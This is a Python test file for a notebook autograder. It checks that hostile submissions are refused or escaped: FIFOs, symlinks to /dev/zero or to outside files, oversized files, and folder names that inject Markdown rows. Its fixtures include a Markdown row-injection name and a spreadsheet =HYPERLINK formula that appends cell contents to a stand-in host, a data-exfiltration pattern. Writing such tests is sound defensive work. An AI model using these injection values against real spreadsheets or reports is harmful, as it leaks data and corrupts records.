"""The submission folder and the gradebook, against hostile names and files (issue #34, items
5, 6 and 8), and a grader that is interrupted, killed or doubled (item 2's second half).

One grading run (module fixture) holds the folder's hostile entries: a FIFO, a symbolic link to
/dev/zero, to a file outside the folder, to another student's notebook, a student folder that is
a link, a device, an oversized file, a name that writes Markdown rows and a spreadsheet formula,
and two students with the same solution cells. Needs bubblewrap, as the grader does.
"""
from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from test_grade import ROOT, edit, events, needs_bwrap, run_grader, solution, statuses, write

from cvae_lib.grade import main
from cvae_lib.grade.gradebook import GradebookLock, Row, csv_cell, md_cell, write_gradebook
from cvae_lib.grade.intake import MAX_NOTEBOOK_BYTES, find_submissions
from cvae_lib.grade.limits import choose_confinement

NAME = "ex01_autoencoder.ipynb"
SECRET = "instructor-only-4d1c"
EVIL = "eve| x | 99 | 99 | - | - |\n| mallory"          # a folder name that writes Markdown rows
FORMULA = '=HYPERLINK("http://x.example/"&A1,"ok")'


def hostile_folder(subs: Path, outside: Path) -> None:
    sol = solution()
    write(subs, "alice", sol)
    write(subs, "bob", edit(sol, "def interpolate(", "# bob's own comment\ndef interpolate("))
    write(subs, EVIL, edit(sol, "def interpolate(", "# bob's own comment\ndef interpolate("))  # the same as bob
    (subs / "fifo").mkdir()
    os.mkfifo(subs / "fifo" / NAME)
    (subs / "zero").mkdir()
    (subs / "zero" / NAME).symlink_to("/dev/zero")
    (subs / "outside").mkdir()
    (outside / "secret.txt").write_text(SECRET * 20)
    (subs / "outside" / NAME).symlink_to(outside / "secret.txt")
    (subs / "copycat").mkdir()
    (subs / "copycat" / NAME).symlink_to(subs / "alice" / NAME)
    (subs / "linked_folder").symlink_to(subs / "alice")
    (subs / "huge").mkdir()
    with open(subs / "huge" / NAME, "wb") as f:
        f.truncate(MAX_NOTEBOOK_BYTES + 1)              # sparse: no disk used
    if os.geteuid() == 0:
        (subs / "device").mkdir()
        os.mknod(subs / "device" / NAME, 0o600 | 0o020000, os.makedev(1, 5))   # a character device (zero)
    write(subs, FORMULA, edit(sol, "def interpolate(", f"# mallory\ndef interpolate(z0, z1, n):\n"
                                                      f"    raise AssertionError({FORMULA!r})\ndef _unused("))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("untrusted")
    subs, outside = tmp / "submitted", tmp / "outside"
    outside.mkdir()
    hostile_folder(subs, outside)
    started = time.monotonic()
    table = run_grader(subs, tmp / "book", "--timeout", "60")
    return {"table": table, "book": tmp / "book", "seconds": time.monotonic() - started}


@needs_bwrap
@pytest.mark.parametrize("student, words", [
    ("fifo", "a FIFO"),
    ("zero", "a symbolic link"),
    ("outside", "a symbolic link"),
    ("copycat", "a symbolic link"),
    ("linked_folder", "a symbolic link"),
    ("huge", "over the 50 MB limit"),
])
def test_links_fifos_devices_and_huge_files_are_refused_with_a_row(graded, student, words):
    """Issue #34, item 5: a FIFO blocked the grader forever; a link to /dev/zero read until the
    memory ran out; a link outside the folder put that file into the gradebook; a link to another
    student's notebook scored full marks. Each is now refused, unread, with a row saying why, and
    scores nothing."""
    rows = graded["table"][student]
    said = [(r["status"], r["message"]) for r in rows if r["check"] == "(notebook)"
            and r["status"] in ("refused", "unreadable")]
    assert len(said) == 1 and words in said[0][1], said
    assert "passed" not in statuses(rows)


@needs_bwrap
def test_a_device_is_refused(graded):
    if os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    assert "a character device" in events(graded["table"]["device"])["refused"]


@needs_bwrap
def test_nothing_outside_the_folder_reaches_the_gradebook(graded):
    for name in ("gradebook.csv", "gradebook.md"):
        assert SECRET not in (graded["book"] / name).read_text()
    assert graded["seconds"] < 150


@needs_bwrap
def test_identical_solution_cells_are_flagged_and_keep_their_points(graded):
    t = graded["table"]
    for me, other in (("bob", "mallory"), (EVIL, "bob")):
        assert set(statuses(t[me])) == {"passed"}
        assert other in events(t[me])["identical submission"]
    assert "identical submission" not in events(t["alice"])      # alice's own cells differ by a comment


@needs_bwrap
def test_names_and_messages_cannot_make_rows_or_formulas(graded):
    """Issue #34, item 6: a folder name with `|` and a newline wrote fake rows into gradebook.md;
    names and messages starting with = went raw into the CSV."""
    md = (graded["book"] / "gradebook.md").read_text()
    summary, rest = md.split("## Totals")
    totals_table, answers_table = rest.split("## Written answers")
    columns = lambda text: {line.count("|") - line.count("\\|") for line in text.splitlines()  # noqa: E731
                            if line.startswith("|")}
    assert columns(summary) == {7} and columns(totals_table) == {6} and columns(answers_table) == {6}
    assert not any(line.startswith("| mallory") for line in md.splitlines())
    with open(graded["book"] / "gradebook.csv", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not any(c[:1] in ("=", "+", "-", "@") for c in cells)
    assert cells.count("'" + FORMULA) >= 2           # the student's name, and the message their code raised


def test_md_and_csv_cells_escape_what_the_grader_did_not_write():
    assert md_cell("a|b\nc") == "a\\|b c" and md_cell("<script>") == "&lt;script&gt;" and md_cell("") == "-"
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("ok") == "ok"
    assert csv_cell("\t=1") == "'\t=1" and csv_cell("-2+3") == "'-2+3"


def test_find_submissions_never_follows_a_link(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / NAME).write_text("{}")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "deep").mkdir()
    (tmp_path / "real" / "inner").symlink_to(tmp_path / "elsewhere")   # a link to a folder inside a student's
    found, refused = find_submissions(tmp_path)
    assert [(s.student, s.exercise) for s in found] == [("real", "ex01_autoencoder")]
    assert refused == []


# ----------------------------------------------------------------------------- the gradebook's writes

def test_concurrent_writes_never_tear_the_gradebook(tmp_path):
    """Issue #34, item 8: in repeated simultaneous writes the CSV ended torn or NUL-filled in 172
    of 300 races. Writes are now a rename of a complete file: a reader sees one whole version."""
    a = [Row("a", "ex01", f"check {i}", "passed", "x" * 200) for i in range(300)]
    b = [Row("b", "ex01", f"check {i}", "failed", "y" * 200) for i in range(200)]
    stop, torn = [], []

    def writer(rows):
        while not stop:
            write_gradebook(rows, tmp_path)

    def reader():
        while not stop:
            try:
                text = (tmp_path / "gradebook.csv").read_text()
            except FileNotFoundError:
                continue
            lines = text.splitlines()
            if "\0" in text or len(lines) not in (1 + 300 + 1, 1 + 200 + 1):
                torn.append(len(lines))

    threads = [threading.Thread(target=writer, args=(r,)) for r in (a, b)] + [threading.Thread(target=reader)]
    for t in threads:
        t.start()
    time.sleep(3)
    stop.append(True)
    for t in threads:
        t.join()
    assert torn == []
    assert not list(tmp_path.glob(".gradebook*.tmp"))


@needs_bwrap
def test_a_second_grader_on_the_same_folder_is_refused(tmp_path, capsys):
    """Issue #34, item 8: two graders on one output folder both exited 0 and the last silently
    overwrote the other."""
    write(tmp_path / "submitted", "alice", solution())
    with GradebookLock(tmp_path / "book"):
        with pytest.raises(SystemExit) as stop:
            main([str(tmp_path / "submitted"), "--out", str(tmp_path / "book")])
    assert stop.value.code == 2
    assert "another grader (pid" in capsys.readouterr().err
    assert not (tmp_path / "book" / "gradebook.csv").exists()


MARKER = "4243.25"      # the slow notebook's child's `sleep` argument, to find it in /proc
SLOW = f"import subprocess, time; subprocess.Popen(['sleep', '{MARKER}']); time.sleep(120)\n"


def _grader(subs: Path, book: Path) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "cvae_lib.grade", str(subs), "--out", str(book),
                             "--timeout", "150"], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            text=True)


def _wait_for_rows(book: Path, student: str, proc: subprocess.Popen, seconds: float = 240) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and proc.poll() is None:
        try:
            if any(r["student"] == student for r in csv.DictReader(open(book / "gradebook.csv"))):
                return
        except (FileNotFoundError, csv.Error):
            pass
        time.sleep(0.2)
    pytest.fail(f"no rows for {student} appeared (grader: {proc.poll()})")


@needs_bwrap
@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGKILL])
def test_an_interrupted_or_killed_grader_keeps_every_finished_notebook(tmp_path, how):
    """Issue #34, item 2: the gradebook was written only at the end, so an out-of-memory kill or
    a Ctrl-C after 2 of 4 notebooks left nothing. It is now rewritten after every notebook; Ctrl-C
    (SIGINT) ends with exit code 130, the sandbox stopped and the gradebook saying it is partial."""
    subs, book = tmp_path / "submitted", tmp_path / "book"
    write(subs, "a_done", solution())
    write(subs, "b_slow", edit(solution(), "def psnr(", SLOW + "def psnr("))
    proc = _grader(subs, book)
    try:
        _wait_for_rows(book, "a_done", proc)
        time.sleep(3)                                   # b_slow's sandbox is running now
        proc.send_signal(how)
        out, _ = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
    rows = list(csv.DictReader(open(book / "gradebook.csv")))
    done = [r for r in rows if r["student"] == "a_done" and r["check"] != "(total)"]
    assert len(done) >= 12 and set(statuses(done)) == {"passed"}
    assert not [r for r in rows if r["student"] == "b_slow"]
    if how == signal.SIGINT:
        assert proc.returncode == 130, out
        assert "interrupted" in out
        assert "Grading was interrupted: 1 of 2 notebooks graded" in (book / "gradebook.md").read_text()
    time.sleep(1)
    left = [p for p in Path("/proc").glob("[0-9]*") if MARKER in _cmdline(p)]
    assert left == [], "the interrupted notebook's processes outlived the grader"
    stale = [d for parent in _cgroup_parents() for d in parent.glob(f"cvae-grade-{proc.pid}-*")]
    assert stale == [], "the next grader's start did not remove the killed grader's cgroups"


def _cmdline(proc: Path) -> str:
    try:
        return (proc / "cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""


def _cgroup_parents() -> list[Path]:
    """The folders that hold notebook cgroups here (a fresh look, which also removes stale ones)."""
    confinement = choose_confinement("auto")
    return [getattr(confinement, a) for a in ("root", "memory", "pids") if hasattr(confinement, a)]
